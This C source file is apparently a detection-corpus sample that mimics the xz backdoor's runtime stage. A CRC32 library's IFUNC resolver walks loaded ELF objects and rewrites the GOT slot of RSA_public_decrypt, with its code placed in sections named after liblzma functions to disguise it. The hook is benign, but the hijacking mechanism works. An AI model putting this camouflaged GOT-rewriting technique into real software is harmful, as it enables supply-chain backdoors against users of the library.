/*
 * Backsight corpus sample: ifunc/xz-got-hijack  (INERT - compiled only, never run)
 *
 * Shape of the CVE-2024-3094 runtime stage, written from the public description:
 * an exported IFUNC symbol (crc32_fast) whose resolver does not look at the CPU at
 * all. It calls a local helper that walks the loaded objects (dl_iterate_phdr, and
 * the _r_debug link_map list as a fallback), parses each object's dynamic section by
 * DT_* tag, finds the PLT/GOT slot of RSA_public_decrypt and rewrites it
 * (mprotect + store). The resolver still returns a working CRC32 function.
 *
 * The replacement function only counts calls and forwards; nothing here does
 * anything useful for an attacker. It exists so that static analysis has the
 * genuine structure to look at.
 */
#define _GNU_SOURCE
#include "bs_api.h"
#include <elf.h>
#include <link.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#if __SIZEOF_POINTER__ == 8
#define BS_R_SYM(i) ELF64_R_SYM(i)
#else
#define BS_R_SYM(i) ELF32_R_SYM(i)
#endif

typedef uint32_t (*crc32_func)(const uint8_t *buf, size_t size, uint32_t crc);
typedef int (*rsa_func)(int flen, const unsigned char *from, unsigned char *to,
                        void *rsa, int padding);

/* ---- the legitimate-looking part: a plain bitwise CRC32 ---------------- */

static uint32_t crc32_generic(const uint8_t *buf, size_t size, uint32_t crc)
{
	crc = ~crc;
	while (size--) {
		crc ^= *buf++;
		for (int k = 0; k < 8; k++)
			crc = (crc >> 1) ^ (0xEDB88320u & (0u - (crc & 1u)));
	}
	return ~crc;
}

/* ---- the hook that would be installed ------------------------------------ */

static rsa_func original_rsa_public_decrypt;
static unsigned long hook_calls;

/* Placed in a .text.* section named after an unrelated liblzma function. */
__attribute__((noinline, noclone, section(".text.lzma_crc_fast")))
static int hooked_rsa_public_decrypt(int flen, const unsigned char *from,
                                     unsigned char *to, void *rsa, int padding)
{
	hook_calls++;
	if (original_rsa_public_decrypt)
		return original_rsa_public_decrypt(flen, from, to, rsa, padding);
	return -1;
}

/* ---- GOT rewriting --------------------------------------------------------- */

__attribute__((noinline, noclone, section(".text.lzma_crc32_generid")))
static void rewrite_slot(void **slot, void *value)
{
	long page = sysconf(_SC_PAGESIZE);
	uintptr_t start = (uintptr_t)slot & ~((uintptr_t)page - 1);

	if (mprotect((void *)start, (size_t)page * 2, PROT_READ | PROT_WRITE) != 0)
		return;
	if (!original_rsa_public_decrypt)
		original_rsa_public_decrypt = (rsa_func)*slot;
	*slot = value;
	mprotect((void *)start, (size_t)page * 2, PROT_READ);
}

static uintptr_t dyn_addr(uintptr_t base, uintptr_t value)
{
	/* Some loaders relocate d_ptr in place, some do not. */
	return value < base ? base + value : value;
}

struct hunt {
	const char *name;
	void *replacement;
	int patched;
};

/* In-memory ELF parser: dynamic section -> symbol table -> PLT relocations. */
__attribute__((noinline, noclone))
static int patch_object(uintptr_t base, const ElfW(Dyn) *dyn, struct hunt *h)
{
	uintptr_t jmprel = 0, symtab = 0, strtab = 0;
	size_t pltrelsz = 0;
	long pltrel = 0;

	for (; dyn->d_tag != DT_NULL; dyn++) {
		switch (dyn->d_tag) {
		case DT_JMPREL:   jmprel = dyn_addr(base, dyn->d_un.d_ptr); break;
		case DT_PLTRELSZ: pltrelsz = dyn->d_un.d_val; break;
		case DT_SYMTAB:   symtab = dyn_addr(base, dyn->d_un.d_ptr); break;
		case DT_STRTAB:   strtab = dyn_addr(base, dyn->d_un.d_ptr); break;
		case DT_PLTREL:   pltrel = (long)dyn->d_un.d_val; break;
		default: break;
		}
	}
	if (!jmprel || !symtab || !strtab || !pltrelsz)
		return 0;

	const ElfW(Sym) *syms = (const ElfW(Sym) *)symtab;
	const char *strs = (const char *)strtab;

	if (pltrel == DT_RELA) {
		const ElfW(Rela) *r = (const ElfW(Rela) *)jmprel;
		for (size_t i = 0; i < pltrelsz / sizeof(*r); i++) {
			const ElfW(Sym) *s = &syms[BS_R_SYM(r[i].r_info)];
			if (strcmp(strs + s->st_name, h->name) == 0) {
				rewrite_slot((void **)(base + r[i].r_offset), h->replacement);
				return 1;
			}
		}
	} else {
		const ElfW(Rel) *r = (const ElfW(Rel) *)jmprel;
		for (size_t i = 0; i < pltrelsz / sizeof(*r); i++) {
			const ElfW(Sym) *s = &syms[BS_R_SYM(r[i].r_info)];
			if (strcmp(strs + s->st_name, h->name) == 0) {
				rewrite_slot((void **)(base + r[i].r_offset), h->replacement);
				return 1;
			}
		}
	}
	return 0;
}

static int phdr_callback(struct dl_phdr_info *info, size_t size, void *data)
{
	struct hunt *h = data;
	(void)size;
	for (int i = 0; i < info->dlpi_phnum; i++) {
		if (info->dlpi_phdr[i].p_type != PT_DYNAMIC)
			continue;
		const ElfW(Dyn) *dyn =
			(const ElfW(Dyn) *)(info->dlpi_addr + info->dlpi_phdr[i].p_vaddr);
		if (patch_object(info->dlpi_addr, dyn, h))
			h->patched++;
	}
	return 0;
}

/* The local helper the resolver calls instead of a CPU-feature probe. */
__attribute__((noinline, noclone))
static void crc_helper(const char *target)
{
	struct hunt h = { target, (void *)hooked_rsa_public_decrypt, 0 };

	dl_iterate_phdr(phdr_callback, &h);
	if (h.patched)
		return;

	/* Fallback: walk the debugger's link_map list. */
	for (struct link_map *m = _r_debug.r_map; m; m = m->l_next)
		if (m->l_ld && patch_object(m->l_addr, m->l_ld, &h))
			break;
}

/* ---- the IFUNC ------------------------------------------------------------ */

#ifdef BS_OBJECT_TELLS
/*
 * Object-file build only (ifunc/xz-object): a function that is global in C and
 * declared noplt, so gcc calls it as "call *lzma_cpu_probe@GOTPCREL(%rip)", but
 * hidden in the symbol table. With -Wa,-mrelax-relocations=no the relocation stays
 * a plain, non-relaxable R_X86_64_GOTPCREL.
 */
__asm__(".hidden lzma_cpu_probe");
unsigned lzma_cpu_probe(unsigned leaf) __attribute__((noplt));
__attribute__((noinline, noclone))
unsigned lzma_cpu_probe(unsigned leaf)
{
	return leaf * 2654435761u;
}
#endif

static crc32_func crc32_resolve(void)
{
#ifdef BS_OBJECT_TELLS
	if (lzma_cpu_probe(1) == 0)
		return crc32_generic;
#endif
	crc_helper("RSA_public_decrypt");
	return crc32_generic;
}

BS_API uint32_t crc32_fast(const uint8_t *buf, size_t size, uint32_t crc)
	__attribute__((ifunc("crc32_resolve")));

/* An ordinary exported function so the library looks like a CRC library. */
BS_API uint32_t crc32_bytes(const uint8_t *buf, size_t size)
{
	return crc32_fast(buf, size, 0);
}
